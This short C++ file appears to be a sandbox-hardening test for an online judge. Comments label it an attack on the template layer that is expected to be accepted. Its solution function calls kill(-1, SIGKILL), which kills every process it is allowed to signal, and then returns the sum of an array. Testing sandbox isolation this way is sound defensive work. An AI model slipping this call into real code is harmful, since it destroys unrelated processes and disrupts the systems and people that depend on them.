// attack: kills every process it may signal, the template of its own program too
// allowed: AC
// layer: template
#include <signal.h>

class Solution {
 public:
  long long echoSum(vector<long long>& nums) {
    kill(-1, SIGKILL);
    return accumulate(nums.begin(), nums.end(), 0LL);
  }
};
